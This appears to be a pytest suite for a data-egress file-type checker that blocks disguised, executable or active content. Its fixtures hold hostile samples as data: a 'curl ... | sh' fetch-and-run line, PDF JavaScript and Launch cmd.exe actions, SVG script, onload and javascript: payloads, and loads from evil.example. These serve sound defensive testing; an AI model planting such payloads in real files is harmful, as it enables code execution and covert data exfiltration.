"""file_type: allowed kinds pass, everything else (and lying extensions) blocks."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import tarfile
import zipfile

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from checks_builders import SVG_PASSIVE, flate_stream, jpeg_bytes, pdf_bytes, png_bytes, result_of

from egress_review.checks import FileKind, Verdict
from egress_review.checks.sniff import detect


def file_type(check, name, content):
    return result_of(check(name, content), "file_type")


def parquet_bytes() -> bytes:
    sink = io.BytesIO()
    pq.write_table(pa.table({"group": ["a", "b"], "n": [12, 30]}), sink)
    return sink.getvalue()


def zip_bytes(name="sheet.xml", content=b"<x/>") -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w") as archive:
        archive.writestr(name, content)
    return sink.getvalue()


def tar_bytes() -> bytes:
    sink = io.BytesIO()
    with tarfile.open(fileobj=sink, mode="w") as archive:
        info = tarfile.TarInfo("a.csv")
        info.size = 4
        archive.addfile(info, io.BytesIO(b"a,b\n"))
    return sink.getvalue()


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
PYC = b"\xa7\x0d\r\n" + b"\x00" * 12 + b"\xe3\x00\x00\x00"


@pytest.mark.parametrize(
    "name, content, kind",
    [
        ("table.csv", "group,n\na,12\nb,30\n", FileKind.CSV),
        ("table.tsv", "group\tn\na\t12\n", FileKind.CSV),
        ("table.parquet", parquet_bytes(), FileKind.PARQUET),
        ("notes.md", "# Results\n\nThe model converged.\n", FileKind.TEXT),
        ("notes.txt", "The model converged.\n", FileKind.TEXT),
        ("model.json", '{"coef": [0.1, 0.2]}', FileKind.JSON),
        ("plot.png", png_bytes(), FileKind.PNG),
        ("plot.jpg", jpeg_bytes(), FileKind.JPEG),
        ("report.pdf", pdf_bytes(), FileKind.PDF),
        ("plot.svg", SVG_PASSIVE, FileKind.SVG),
        ("empty.csv", b"", FileKind.CSV),
        ("empty.txt", b"", FileKind.TEXT),
        ("bom.csv", b"\xef\xbb\xbfgroup,n\na,12\n", FileKind.CSV),
    ],
)
def test_allowed_content_with_matching_extension_passes(check, name, content, kind):
    data = content.encode() if isinstance(content, str) else content
    assert detect(data, name).kind is kind
    result = file_type(check, name, content)
    assert result.verdict is Verdict.PASS, result.findings


@pytest.mark.parametrize(
    "name, content, kind",
    [
        ("results.csv", zip_bytes(), FileKind.ZIP),
        ("results.xlsx", zip_bytes("xl/workbook.xml"), FileKind.ZIP),
        ("notes.txt", ELF, FileKind.ELF),
        ("tool.txt", b"MZ\x90\x00\x03" + b"\x00" * 60, FileKind.PE),
        ("run.txt", "#!/bin/sh\ncurl http://example.org | sh\n", FileKind.SCRIPT),
        ("cache.txt", PYC, FileKind.PYTHON_BYTECODE),
        ("model.txt", pickle.dumps({"a": 1}, protocol=5), FileKind.PICKLE),
        ("model.txt", pickle.dumps({"a": 1}, protocol=0), FileKind.PICKLE),
        ("table.csv", gzip.compress(b"a,b\n1,2\n"), FileKind.GZIP),
        ("table.csv", bz2.compress(b"a,b\n1,2\n"), FileKind.BZIP2),
        ("table.csv", lzma.compress(b"a,b\n1,2\n"), FileKind.XZ),
        ("table.csv", b"7z\xbc\xaf\x27\x1c\x00\x04", FileKind.SEVEN_ZIP),
        ("table.csv", b"\x28\xb5\x2f\xfd" + b"\x00" * 8, FileKind.ZSTD),
        ("table.csv", tar_bytes(), FileKind.TAR),
        ("data.txt", b"\x89HDF\r\n\x1a\n" + b"\x00" * 32, FileKind.HDF5),
        ("data.txt", b"CDF\x01" + b"\x00" * 32, FileKind.NETCDF),
        ("data.txt", b"SQLite format 3\x00" + b"\x00" * 84, FileKind.SQLITE),
        ("page.txt", "<!DOCTYPE html><html><script>alert(1)</script></html>", FileKind.HTML),
        ("blob.txt", bytes(range(256)), FileKind.UNKNOWN),
        ("latin1.csv", "name,n\nZoë,12\n".encode("latin-1"), FileKind.UNKNOWN),
        ("wide.csv", "a,n\nb,12\n".encode("utf-16"), FileKind.UNKNOWN),
    ],
)
def test_forbidden_content_blocks_whatever_its_name(check, name, content, kind):
    data = content.encode() if isinstance(content, str) else content
    assert detect(data, name).kind is kind
    result = file_type(check, name, content)
    assert result.verdict is Verdict.BLOCK
    assert "may not leave" in result.findings[0].message


def test_zip_named_csv_reports_both_the_content_and_the_lying_extension(check):
    result = file_type(check, "results.csv", zip_bytes())
    messages = " ".join(f.message for f in result.findings)
    assert "zip archive" in messages and "does not match the content" in messages


@pytest.mark.parametrize(
    "name, content",
    [
        ("plot.png", "a,b\n1,2\n"),  # a table named as an image
        ("table.csv", png_bytes()),  # an image named as a table
        ("model.json", "not json at all\n"),
        ("report.pdf", png_bytes()),
    ],
)
def test_extension_contradicting_allowed_content_blocks(check, name, content):
    result = file_type(check, name, content)
    assert result.verdict is Verdict.BLOCK
    assert any("does not match the content" in f.message for f in result.findings)


@pytest.mark.parametrize("name", ["analysis.py", "results", "page.html", "table.xlsx"])
def test_extension_outside_the_allowlist_blocks_even_plain_text(check, name):
    result = file_type(check, name, "just some words\n")
    assert result.verdict is Verdict.BLOCK
    assert "is not allowed" in result.summary


def test_png_with_an_appended_zip_blocks(check):
    result = file_type(check, "plot.png", png_bytes() + zip_bytes())
    assert result.verdict is Verdict.BLOCK
    assert "after the end of the image" in result.summary


def test_png_with_a_corrupt_chunk_blocks(check):
    data = bytearray(png_bytes())
    data[40] ^= 0xFF  # inside the tEXt chunk
    assert file_type(check, "plot.png", bytes(data)).verdict is Verdict.BLOCK


def test_png_with_an_unknown_chunk_blocks(check):
    import struct
    import zlib

    extra = b"hiDe" + b"secret"
    chunk = struct.pack(">I", 6) + extra + struct.pack(">I", zlib.crc32(extra))
    data = png_bytes()
    data = data[:33] + chunk + data[33:]  # after IHDR
    result = file_type(check, "plot.png", data)
    assert result.verdict is Verdict.BLOCK and "unknown chunk" in result.summary


def test_jpeg_with_appended_data_blocks(check):
    assert file_type(check, "plot.jpg", jpeg_bytes() + b"PK\x03\x04hidden").verdict is Verdict.BLOCK


@pytest.mark.parametrize(
    "catalog_extra, objects",
    [
        (b"/OpenAction 4 0 R ", [b"<< /S /JavaScript /JS (app.alert(1)) >>"]),
        (b"/OpenAction 4 0 R ", [b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"]),
        (b"/Names << /EmbeddedFiles 4 0 R >> ", [b"<< /Names [(a.exe) 5 0 R] >>"]),
        (b"", [flate_stream(b"<< /S /Launch /F (cmd.exe) >>")]),
    ],
    ids=["javascript", "hex-escaped-names", "embedded-file", "launch-in-compressed-stream"],
)
def test_pdf_with_active_or_embedded_content_blocks(check, catalog_extra, objects):
    result = file_type(check, "report.pdf", pdf_bytes(objects, catalog_extra))
    assert result.verdict is Verdict.BLOCK
    assert "active or embedded content" in result.summary


def test_pdf_with_data_appended_after_eof_blocks(check):
    assert file_type(check, "report.pdf", pdf_bytes() + b"x" * 5000).verdict is Verdict.BLOCK


@pytest.mark.parametrize(
    "svg, problem",
    [
        ('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "<script>"),
        ('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "event handler"),
        (
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
            '<image xlink:href="https://evil.example/p.png"/></svg>',
            "refers outside",
        ),
        (
            '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><text>x</text></a></svg>',
            "javascript",
        ),
        (
            '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://evil.example/x.css);</style></svg>',
            "imports external CSS",
        ),
        (
            '<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:url(http://x/y)"/></svg>',
            "external url()",
        ),
        (
            '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><div>x</div></foreignObject></svg>',
            "foreignobject",
        ),
        (
            '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaa">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
            "entities",
        ),
        (
            '<?xml version="1.0"?><?xml-stylesheet href="http://x/y.css"?><svg xmlns="http://www.w3.org/2000/svg"/>',
            "processing instruction",
        ),
    ],
    ids=["script", "onload", "external-image", "javascript-url", "css-import", "css-url", "foreign-object",
         "entity", "stylesheet-pi"],
)  # fmt: skip
def test_svg_that_can_run_code_or_load_content_blocks(check, svg, problem):
    result = file_type(check, "plot.svg", svg)
    assert result.verdict is Verdict.BLOCK
    assert any(problem in f.message for f in result.findings), result.findings


def test_irregular_csv_is_still_a_table_by_its_extension_and_fails_closed(check):
    # a title line must not move a table out of the table checks
    results = check("table.csv", "Table 1: counts\ngroup,n\na,3\n")
    assert result_of(results, "file_type").verdict is Verdict.PASS
    small = result_of(results, "small_counts")
    assert small.verdict is Verdict.ERROR and "cannot read the table" in small.summary


def test_detection_ignores_the_extension_for_binary_content():
    assert detect(png_bytes(), "table.csv").kind is FileKind.PNG
    assert detect(ELF, "anything.md").kind is FileKind.ELF
